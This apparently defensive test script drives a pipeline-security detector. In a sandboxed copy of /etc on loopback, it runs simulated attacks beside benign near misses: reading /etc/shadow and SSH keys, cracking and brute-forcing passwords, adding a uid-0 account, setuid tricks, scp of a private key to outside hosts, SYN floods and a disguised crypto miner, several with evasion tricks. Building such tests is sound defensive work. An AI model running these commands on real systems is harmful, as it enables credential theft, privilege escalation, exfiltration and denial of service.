# SPDX-License-Identifier: Apache-2.0
# A test step of a pipeline turns against the machine: it looks for credentials, cracks and guesses passwords, makes itself an
# account, changes what files may do, carries files off, floods a server, starts a miner. Between that stands what honest jobs do.
# All of it happens to a copy of /etc and on a loopback device that nothing else uses.
set -eu

mkdir /tmp/lab
cp -a /etc /tmp/lab/etc
mount --bind /tmp/lab/etc /etc
cat > /etc/shadow <<'END'
root:*:19000:0:99999:7:::
runner:$1$saltsalt$qjXMvbEw8oaL.CzflDtaK/:19000:0:99999:7:::
END
echo 'runner:x:1001:1001::/home/runner:/bin/sh' >> /etc/passwd
echo 'runner:x:1001:' >> /etc/group

# What the steps need: an SSH server of their own, and a web server.
mkdir -p /run/sshd .ssh
ssh-keygen -q -t ed25519 -N '' -C sample -f /tmp/lab/host
ssh-keygen -q -t ed25519 -N '' -C sample -f .ssh/id_ed25519
cat > /tmp/lab/sshd_config <<'END'
Port 2222
ListenAddress 127.0.0.1
HostKey /tmp/lab/host
AuthorizedKeysFile /tmp/lab/authorized
PermitRootLogin yes
StrictModes no
UsePAM no
PidFile none
Subsystem sftp /usr/lib/openssh/sftp-server
END
cp .ssh/id_ed25519.pub /tmp/lab/authorized
cat > /tmp/lab/ssh_config <<'END'
Host *
  Port 2222
  IdentityFile /home/runner/work/hello/hello/.ssh/id_ed25519
  StrictHostKeyChecking no
  UserKnownHostsFile /dev/null
  LogLevel ERROR
END
/usr/sbin/sshd -D -f /tmp/lab/sshd_config &
server=$!
python3 -m http.server --bind 127.0.0.1 --directory /tmp/lab/etc/apt 8080 > /dev/null 2>&1 &
web=$!
for _ in 1 2 3 4 5 6 7 8 9 10; do
	if ssh -F /tmp/lab/ssh_config root@127.0.0.1 true; then break; fi
	sleep 0.5
done

cat > credentials.sh <<'END'
cat /etc/shadow                                        # by its name
awk -F: '{ print $1, $2 }' /etc/shadow                 # a part of it
cat .ssh/id_ed25519                                    # a private key, by a relative path
strings_of() { tr '\0' '\n' < "$1"; }                  # by the shell, which opens it: not found
strings_of /proc/self/environ
cut -c1-20 /proc/self/environ                          # by an argument
busybox cat /etc/shadow
ln -s "$(command -v cat)" ./notes
./notes /etc/shadow
/lib64/ld-linux-x86-64.so.2 "$(command -v cat)" /etc/shadow
grep -rIl password /etc                                # whole directories
find /home -name id_rsa
printf '{"TOKEN":{"value":"x","isSecret":true}}' > memory
grep -aoE '"[^"]+":\{"value":"[^"]*","isSecret":true\}' memory
grep -rn password .                                    # its own directory only
# Near misses.
cat /etc/passwd
cat .ssh/id_ed25519.pub
grep -q '^PasswordAuthentication no' /etc/ssh/sshd_config
mkdir secrets
grep -rn TODO secrets
find . -name '*.pem' -delete
ls -l /etc/shadow
END

cat > passwords.sh <<'END'
unshadow /etc/passwd /etc/shadow > hashes
crunch 1 1 ab -o words
printf 'password\n' >> words
john --wordlist=words --format=md5crypt hashes
hydra -I -f -l runner -P words -s 2222 -t 1 127.0.0.1 ssh
ln -s "$(command -v hydra)" ./health-check
./health-check -I -l runner -p b -s 2222 127.0.0.1 ssh
/lib64/ld-linux-x86-64.so.2 "$(command -v hydra)" -I -l runner -p a -s 2222 127.0.0.1 ssh
john                                                   # says how it is used
# Near misses: a server for OAuth has the name of the guesser, and a login that fails once.
mkdir bin
printf '#!/bin/sh\necho serving\n' > bin/hydra
chmod +x bin/hydra
bin/hydra serve all
ssh -F /tmp/lab/ssh_config -o PubkeyAuthentication=no -o BatchMode=yes nobody@127.0.0.1 true
END

cat > accounts.sh <<'END'
useradd -o -u 0 -M backup2                             # another root
useradd -m bob
usermod -aG sudo bob
echo 'bob:secret' | chpasswd
passwd -d bob
usermod -L bob
adduser --disabled-password --gecos '' --quiet carol   # a Perl script, which executes useradd and others
groupadd builders
useradd --system app
userdel -r bob
# Near misses: what only looks, and the script of a package.
passwd -S root
chage -l root
getent passwd root
useradd -D
mkdir -p pkg/DEBIAN db/updates db/info db/triggers
: > db/status
printf 'Package: demo\nVersion: 1\nArchitecture: all\nMaintainer: nobody <nobody@example.org>\nDescription: demo\n' > pkg/DEBIAN/control
printf '#!/bin/sh\nset -e\nadduser --system --quiet demo\ntouch /tmp/lab/helper\nchmod 4755 /tmp/lab/helper\n' > pkg/DEBIAN/postinst
chmod 755 pkg pkg/DEBIAN pkg/DEBIAN/postinst
dpkg-deb --build pkg demo.deb
dpkg --admindir="$PWD/db" --force-not-root --log=/dev/null --install demo.deb
END

cat > attributes.sh <<'END'
echo x > persist
chattr +i persist                                      # where the file system can
chattr -i persist
cp "$(command -v dash)" ./sh
chmod u+s ./sh
busybox chmod 4755 ./sh
install -m 4755 ./sh ./sh2
setpriv --reuid=1001 --regid=1001 --clear-groups sh -c 'cp /bin/true /tmp/mine && exec chmod u+s /tmp/mine'
chmod 666 /etc/passwd
chown runner /etc/shadow
setfacl -m u:runner:r /etc/shadow
setcap cap_setuid+ep ./sh2
touch -r /bin/ls persist
ln -s "$(command -v chattr)" ./tidy
./tidy +a persist
./tidy -a persist
# Near misses.
chmod +x persist
chmod 600 .ssh/id_ed25519
chmod 1777 secrets
chmod g+s secrets
chmod -R 777 secrets
chmod u-s ./sh
touch -d @1700000000 persist
chown -R runner secrets
install -m 755 ./sh ./sh3
setcap -r ./sh2
lsattr persist
END

cat > copies.sh <<'END'
echo report > report.txt
export RSYNC_RSH='ssh -F /tmp/lab/ssh_config'
scp -q -F /tmp/lab/ssh_config report.txt root@127.0.0.1:/tmp/lab/one
scp -q -F /tmp/lab/ssh_config .ssh/id_ed25519 root@127.0.0.1:/tmp/lab/two
rsync -a report.txt root@127.0.0.1:/tmp/lab/three      # the server starts another rsync
rsync -a root@127.0.0.1:/tmp/lab/one fetched
echo 'put report.txt /tmp/lab/four' | sftp -q -F /tmp/lab/ssh_config -b - root@127.0.0.1
scp -q -F /tmp/lab/ssh_config -o ConnectTimeout=2 report.txt 203.0.113.7:   # goes nowhere
ln -s "$(command -v scp)" ./publish
./publish -q -F /tmp/lab/ssh_config -o ConnectTimeout=2 report.txt release.example.org:/srv
# Near misses: copies on this machine, and a connection that copies nothing.
rsync -a report.txt secrets/
rsync --version
cp report.txt secrets/
ssh -F /tmp/lab/ssh_config root@127.0.0.1 true
END

cat > floods.sh <<'END'
timeout 0.2 hping3 -q -S --flood -p 8080 127.0.0.1
timeout 0.2 hping3 -q -S -i u200 -p 8080 203.0.113.7   # goes nowhere
slowhttptest -c 5 -r 5 -l 1 -H -u http://127.0.0.1:8080/
ping -q -f -c 3 127.0.0.1
slowhttptest -h
# Near misses.
hping3 -q -S -c 2 -p 8080 127.0.0.1
ping -q -c 2 -i 0.2 127.0.0.1
END

cat > miner.sh <<'END'
# Debian has no miner. What stands in for one does nothing, and is executed as one is.
cp /bin/true ./xmrig
cp /bin/true ./kworkerds
./xmrig --version
./xmrig -c config.json
./kworkerds -o stratum+tcp://127.0.0.1:3333 -u worker
env -i nohup ./kworkerds --donate-level 1 -o 127.0.0.1:3333   # env and nohup execute it: one finding
./kworkerds -o pool.supportxmr.com:443
perl -e 'my $fd = syscall 319, my $n = "x", 0; open my $m, ">&=", $fd; binmode $m; open my $b, "<", "./xmrig"; binmode $b;
  { local $/; print $m scalar <$b> } $m->flush; exec { "/proc/self/fd/$fd" } "nginx", "--algo=rx/0", "-k"'
./kworkerds                                            # nothing tells: not found
# Near misses.
grep -c 'stratum+tcp://' miner.sh
sh -c 'echo stratum+tcp://127.0.0.1:3333'
END

for step in credentials passwords accounts attributes copies floods miner; do
	echo "== $step"
	sh "$step.sh" 2>&1 || true
done
kill $server $web
umount /etc
